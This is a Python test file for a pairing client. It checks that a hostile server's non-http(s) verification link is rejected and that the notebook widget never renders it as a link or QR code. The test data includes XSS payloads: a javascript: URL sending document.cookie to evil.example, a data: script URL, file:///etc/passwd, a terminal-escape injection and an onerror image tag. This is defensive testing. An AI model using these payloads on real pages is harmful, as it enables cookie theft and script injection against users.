"""A hostile server's pairing link (security issue: an untrusted agent's server): the device
answer's `verification_uri_complete` is put in an `<a href>`, printed to be opened and drawn as
a QR code, so one that is not http(s) — `javascript:…` runs in the notebook's page on a click —
is refused where the answer is read, before any consumer sees it. Against a scripted server on
httpx.MockTransport; the widget is also checked on its own, with a handle that carries such a
link anyway."""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from decoy_lab.client.connection import Connection
from decoy_lab.errors import PairingError
from decoy_lab.protocol.pairing import is_web_link
from decoy_lab.widgets import PairingWidget
from decoy_lab.wire.crypto import AgentKey

GOOD = "https://sb/connect?code=ABCD-EFGH"
HOSTILE = [
    "javascript:fetch('https://evil.example/?'+document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
    "https:alert(1)",  # an http(s) scheme with no host
    "//evil.example/connect",  # relative: the page's own scheme
    "https://sb/connect\n\x1b[2Jhttps://evil.example",  # a line and a terminal escape in a printed link
    '"><img src=x onerror=alert(1)>',
]


@pytest.fixture(scope="module")
def key() -> AgentKey:
    return AgentKey.generate()


def hostile_server(member: str, value: str) -> tuple[Any, list[str]]:
    """A server whose device answer carries `value` as `member`; it would approve at once."""
    paths: list[str] = []
    device = {
        "device_code": "DEV",
        "user_code": "ABCD-EFGH",
        "verification_uri": "https://sb/connect",
        "verification_uri_complete": GOOD,
        "expires_in": 600,
        "interval": 1,
        member: value,
    }

    def answer(request: httpx.Request) -> httpx.Response:
        paths.append(request.url.path)
        if request.url.path == "/oauth/par":
            return httpx.Response(201, json={"request_uri": "urn:decoy:par:1", "expires_in": 600})
        if request.url.path == "/oauth/device":
            return httpx.Response(
                200, content=json.dumps(device).encode(), headers={"content-type": "application/json"}
            )
        if request.url.path == "/oauth/token":
            return httpx.Response(200, json={"access_token": "AT", "token_type": "Bearer", "expires_in": 3600})
        if request.url.path == "/api/agent/policies":
            granted = [{"permissions": ["memory.read"], "named": True}]
            policy = {"id": "p1", "expires_at": None, "permissions": granted}
            return httpx.Response(200, json={"access": {"version": 1}, "policies": [policy]})
        return httpx.Response(404, json={"code": "NOT_FOUND"})

    return answer, paths


def pair(server: Any, key: AgentKey, links: list) -> Any:
    return Connection.start_pairing(
        "http://sb",
        name="Test agent",
        transport=httpx.MockTransport(server),
        profile=None,
        agent_key=key,
        on_link=lambda link, code: links.append(link),
        wait=lambda seconds: None,
    )


@pytest.mark.parametrize("member", ["verification_uri_complete", "verification_uri"])
@pytest.mark.parametrize("link", HOSTILE)
def test_a_served_link_that_is_not_http_is_refused_where_the_answer_is_read(key, member, link):
    """The pairing fails with a typed PairingError (`bad_response`) naming the member; the link
    reaches no consumer (`on_link` is not called, the handle has no link) and no poll is sent."""
    server, paths = hostile_server(member, link)
    links: list[str] = []
    handle = pair(server, key, links)
    with pytest.raises(PairingError) as caught:
        handle.result(5)
    assert caught.value.code == "bad_response" and handle.status == "failed"
    assert f"server's {member}" in str(caught.value) and "not an http(s) link" in str(caught.value)
    assert links == [] and handle.link is None
    assert "/oauth/token" not in paths
    widget = PairingWidget(handle, ticker=False, qr=True)
    shown = widget._link.value + widget._status.value + widget._qr.value
    assert "<a " not in shown and "<img" not in shown and "<script" not in shown
    assert "javascript:" not in widget._link.value.lower()


def test_an_http_link_still_pairs(key):
    server, _ = hostile_server("verification_uri_complete", "http://127.0.0.1:8787/connect?code=ABCD-EFGH")
    links: list[str] = []
    handle = pair(server, key, links)
    assert handle.result(5) is not None and handle.status == "done"
    assert links == ["http://127.0.0.1:8787/connect?code=ABCD-EFGH"]


@pytest.mark.parametrize("link", HOSTILE)
def test_links_that_are_not_http_are_not_web_links(link):
    assert not is_web_link(link)


@pytest.mark.parametrize("link", [GOOD, "http://127.0.0.1:8787/connect", "HTTPS://decoys.me/connect?code=A-B"])
def test_http_links_are_web_links(link):
    assert is_web_link(link)


class LinkHandle:
    """What the widget reads of a PairingHandle, waiting with `link`."""

    def __init__(self, link: str):
        self.status, self.message = "waiting", "waiting for the owner to approve (code ABCD-EFGH)"
        self.link, self.user_code, self.expires_at = link, "ABCD-EFGH", None
        self.on_status = None

    def done(self) -> bool:
        return False

    def cancel(self) -> None:
        pass


@pytest.mark.parametrize("link", HOSTILE)
def test_the_widget_makes_no_link_of_a_link_that_is_not_http(link):
    """A handle that carries such a link anyway: the widget shows it as escaped text with a
    one-line warning, makes no `<a href>` and draws no QR code of it."""
    widget = PairingWidget(LinkHandle(link), ticker=False, qr=True)
    html = widget._link.value
    assert "<a " not in html and "href" not in html and widget._qr.value == ""
    assert "not an http(s) address" in html and "\n" not in html.replace(link, "")
    assert "<img" not in html and "<script" not in html
    good = PairingWidget(LinkHandle(GOOD), ticker=False, qr=True)
    assert f'href="{GOOD}"' in good._link.value and "<svg" in good._qr.value
